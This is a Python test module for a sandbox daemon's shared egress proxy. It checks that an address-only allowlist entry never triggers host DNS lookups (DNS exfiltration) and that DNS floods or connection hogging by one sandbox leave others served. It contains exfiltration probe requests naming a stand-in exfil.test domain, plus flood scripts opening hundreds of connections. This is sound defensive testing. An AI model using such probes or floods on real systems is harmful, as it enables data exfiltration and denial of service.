"""One egress proxy shared by the daemon's sandboxes: what one sandbox does must not starve
another of name lookups or connections, and an address entry must not let a sandbox make the
host resolve names (DNS exfiltration). The daemon runs in a network namespace this module
creates, with a resolver of its own: a DNS server written here that records every query,
answers names under fast.test at once and never answers names under slow.test."""
import os
import shutil
import socket
import subprocess
import tempfile
import textwrap
import threading
import time

import pytest

from daemon_util import Daemon, wait_until

PY = "/usr/bin/python3"
NS = "agentd-ps%d" % (os.getpid() % 100000)
ORIGIN, HOLD = 8080, 8081

# Runs inside the namespace: the DNS server on 127.0.0.1:53, an HTTP origin on 8080 that
# answers with the Host it got, and on 8081 a server that accepts and never answers.
HELPER = r'''
import http.server, socket, struct, sys, threading
log = open(sys.argv[1], "a", buffering=1)
def dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 53))
    while True:
        q, peer = s.recvfrom(4096)
        i, labels = 12, []
        while q[i]:
            labels.append(q[i + 1:i + 1 + q[i]].decode())
            i += 1 + q[i]
        qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
        name = ".".join(labels).lower()
        log.write("%s %d\n" % (name, qtype))
        if name.endswith("slow.test"):
            continue                       # never answered
        question = q[12:i + 5]
        if name.endswith("fast.test") and qtype == 1:
            ans = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([127, 0, 0, 1])
            s.sendto(q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + question + ans, peer)
        elif name.endswith("fast.test"):
            s.sendto(q[:2] + b"\x81\x80\x00\x01\x00\x00\x00\x00\x00\x00" + question, peer)
        else:
            s.sendto(q[:2] + b"\x81\x83\x00\x01\x00\x00\x00\x00\x00\x00" + question, peer)
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        body = ("host %s\n" % self.headers.get("Host")).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
held = []
def hold():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", HOLD))
    s.listen(4096)
    while True:
        held.append(s.accept()[0])
srv = http.server.ThreadingHTTPServer(("127.0.0.1", ORIGIN), H)
srv.daemon_threads = True
for f in (dns, hold, srv.serve_forever):
    threading.Thread(target=f, daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
'''.replace("HOLD", str(HOLD)).replace("ORIGIN", str(ORIGIN))


def sh(*cmd):
    subprocess.run(cmd, check=True, capture_output=True)


@pytest.fixture(scope="module")
def net():
    d = tempfile.mkdtemp(prefix="agentd-ps-", dir="/var/tmp")
    os.chmod(d, 0o755)
    files = {
        "resolv.conf": "nameserver 127.0.0.1\noptions timeout:8 attempts:1\n",
        "hosts": "127.0.0.1\tlocalhost\n",
        "helper.py": HELPER,
    }
    for name, text in files.items():
        with open(os.path.join(d, name), "w") as f:
            f.write(text)
    queries = os.path.join(d, "queries")
    open(queries, "w").close()
    subprocess.run(["ip", "netns", "del", NS], capture_output=True)
    sh("ip", "netns", "add", NS)
    helper = None
    try:
        sh("ip", "-n", NS, "link", "set", "lo", "up")
        enter = ["nsenter", "--net=/run/netns/" + NS]
        helper = subprocess.Popen([*enter, PY, os.path.join(d, "helper.py"), queries],
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE)
        assert helper.stdout.readline().strip() == b"ready", helper.stderr.read()
        # the daemon in the namespace, with this resolver (a private mount namespace: the
        # host's files are never touched)
        prefix = [*enter, "unshare", "-m", "--propagation", "private", "sh", "-c",
                  'mount --bind "$0/resolv.conf" /etc/resolv.conf && '
                  'mount --bind "$0/hosts" /etc/hosts && exec "$@"', d]
        daemon = Daemon(prefix=prefix).start()
        try:
            yield {"daemon": daemon, "queries": queries}
        finally:
            daemon.cleanup()
    finally:
        if helper:
            helper.kill()
            helper.wait()
        subprocess.run(["ip", "netns", "del", NS], capture_output=True)
        shutil.rmtree(d, ignore_errors=True)


def queried(net, word):
    with open(net["queries"]) as f:
        return sorted({l.split()[0] for l in f if word in l})


def sandbox(d, allow):
    return d.create(spec={"profile": "standard", "limits": {"max_open_files": 1024},
                          "network": {"mode": "allowlist", "allow": allow}})


def run_py(d, sid, script, timeout_ms=60000):
    r = d.request("POST", f"/v1/sandboxes/{sid}/exec",
                  {"argv": [PY, "-c", textwrap.dedent(script)], "timeout_ms": timeout_ms},
                  new_conn=True)
    assert r.status == 200, r
    return r.json


def in_background(f, *args):
    out = {}
    t = threading.Thread(target=lambda: out.setdefault("r", f(*args)), daemon=True)
    t.start()
    return t, out


# ----------------------------------------------------------------- DNS exfiltration

def test_an_address_entry_never_makes_the_host_resolve_a_name(net):
    """127.0.0.1:8080 listed: a request naming a host on that port is refused before any
    lookup, so the name (data the sandbox encodes in it) never reaches a DNS server."""
    d = net["daemon"]
    sid = sandbox(d, ["127.0.0.1:%d" % ORIGIN])
    r = run_py(d, sid, """
        import socket, struct, urllib.request
        def ask(raw):
            s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
            s.sendall(raw)
            got = s.recv(4096)
            s.close()
            return got
        print("http", ask(b"GET http://secret1.exfil.test:%d/ HTTP/1.1\\r\\n\\r\\n")[:12])
        print("connect", ask(b"CONNECT secret2.exfil.test:%d HTTP/1.1\\r\\n\\r\\n")[:12])
        s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
        s.sendall(b"\\x05\\x01\\x00")
        s.recv(2)
        name = b"secret3.exfil.test"
        s.sendall(b"\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name + struct.pack(">H", %d))
        print("socks", s.recv(10)[1])
        print("address", urllib.request.urlopen("http://127.0.0.1:%d/", timeout=20).read())
    """ % (ORIGIN, ORIGIN, ORIGIN, ORIGIN))
    out = r["stdout"]
    assert "http b'HTTP/1.1 403'" in out, r
    assert "connect b'HTTP/1.1 403'" in out, r
    assert "socks 2" in out, r  # "not allowed by ruleset"
    assert "address b'host 127.0.0.1:%d\\n'" % ORIGIN in out, r
    time.sleep(0.5)
    assert queried(net, "exfil") == [], "the sandbox made the host resolve its names"
    d.delete(f"/v1/sandboxes/{sid}")


# ----------------------------------------------------------------- DNS fairness

FLOOD = """
    import socket, time
    socks = []
    for i in range(%d):
        s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
        s.sendall(b"GET http://n%%d.slow.test:%d/ HTTP/1.1\\r\\n\\r\\n" %% i)
        socks.append(s)
    time.sleep(%g)
    answers = set()
    for s in socks:
        if %d:
            s.close()
            continue
        try:
            answers.add(s.recv(4096).split(b"\\r\\n")[0])
        except OSError as e:
            answers.add(repr(e).encode())
    print("answers", sorted(answers))
"""


def test_names_that_never_answer_hold_back_only_their_sandbox(net):
    """Sandbox A floods the proxy with names whose DNS server never answers; sandbox B's
    lookup is answered at once, and A's get a 504 after the lookup timeout."""
    d = net["daemon"]
    a = sandbox(d, ["*.slow.test:%d" % ORIGIN])
    b = sandbox(d, ["fast.test:%d" % ORIGIN, "127.0.0.1:%d" % ORIGIN])
    flood, res = in_background(run_py, d, a, FLOOD % (40, ORIGIN, 0, 0))
    try:
        # A's lookups are in flight (the DNS server sees them) before B asks
        assert wait_until(lambda: len(queried(net, "slow.test")) >= 4, timeout=30)
        r = run_py(d, b, """
            import time, urllib.request
            t0 = time.monotonic()
            body = urllib.request.urlopen("http://fast.test:%d/", timeout=30).read()
            print("took", round(time.monotonic() - t0, 1), body)
        """ % ORIGIN)
        assert r["stdout"].startswith("took "), r  # else B's lookup waited behind A's
        took, body = r["stdout"].split(" ", 2)[1:]
        assert body.strip() == "b'host fast.test:%d\\n'" % ORIGIN, r
        # a worker waits 8 s (resolv.conf) on each name A asked for: B did not wait behind
        assert float(took) < 3.5, r
    finally:
        flood.join(120)
    # and A's own lookups gave up after the lookup timeout
    assert "HTTP/1.1 504 Gateway Timeout" in res["r"]["stdout"], res
    d.delete(f"/v1/sandboxes/{a}")
    d.delete(f"/v1/sandboxes/{b}")


def test_a_lookup_whose_client_left_is_not_made(net):
    """A's 100 connections ask for 100 names and go away: the names not yet being looked up
    are dropped, not resolved later for nobody (at most 4 are in flight per sandbox)."""
    d = net["daemon"]
    a = sandbox(d, ["*.gone.slow.test:%d" % ORIGIN])
    before = set(queried(net, "gone.slow.test"))
    r = run_py(d, a, FLOOD.replace("slow.test", "gone.slow.test") % (100, ORIGIN, 1, 1))
    assert r["exit_code"] == 0, r
    # the DNS server never answers: every lookup a worker starts waits 8 s (resolv.conf)
    # and would then make room for the next; none may come
    time.sleep(12)
    asked = set(queried(net, "gone.slow.test")) - before
    assert 1 <= len(asked) <= 6, sorted(asked)
    d.delete(f"/v1/sandboxes/{a}")


# ----------------------------------------------------------------- connection slots

HOG = """
    import socket, time
    ok = refused = 0
    socks = []
    for i in range(256):
        s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
        s.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\n")
        socks.append(s)
    for s in socks:
        try:
            got = s.recv(4096)
        except OSError:  # refused: closed at once, the CONNECT unread
            got = b""
        if got.startswith(b"HTTP/1.1 200"):
            ok += 1
        else:
            refused += 1
    print("ok", ok, "refused", refused, flush=True)
    open("ready", "w").close()
    time.sleep(%d)
"""


def test_busy_sandboxes_leave_every_other_its_share_of_connections(net):
    """Four sandboxes open 256 connections each (the per-sandbox maximum; 1024 is the whole
    table) and hold them: a fifth still connects, and a connection that sends nothing is
    closed after 5 s instead of holding its slot for the 10 s of a request header."""
    d = net["daemon"]
    allow = ["127.0.0.1:%d" % HOLD]
    hogs = [sandbox(d, allow) for _ in range(4)]
    b = sandbox(d, allow)
    runs = [in_background(run_py, d, h, HOG % (HOLD, 40)) for h in hogs]
    try:
        for h in hogs:
            assert wait_until(lambda: d.get(f"/v1/sandboxes/{h}/files?path=ready").status
                              == 200, timeout=90, step=0.5), [x["r"]["stderr"][-300:] for _, x in runs if "r" in x]
        r = run_py(d, b, """
            import socket, time
            s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
            s.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\n")
            print("connect", s.recv(4096)[:12])
            t0 = time.monotonic()
            s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
            got = s.recv(4096)
            print("silent", round(time.monotonic() - t0, 1), got.split(b"\\r\\n")[0])
        """ % HOLD)
        out = r["stdout"]
        assert "connect b'HTTP/1.1 200'" in out, (r, d.read_log()[-2000:])
        took = float(out.split("silent ", 1)[1].split()[0])
        assert "408 Request Timeout" in out and 4 <= took < 8, r
    finally:
        for t, _ in runs:
            t.join(120)
    held = [x["r"]["stdout"] for _, x in runs]
    total = sum(int(s.split()[1]) for s in held)
    # the hogs got all the table but the fifth sandbox's share
    assert 900 <= total <= 1024 - 16, held
    for sid in hogs + [b]:
        d.delete(f"/v1/sandboxes/{sid}")
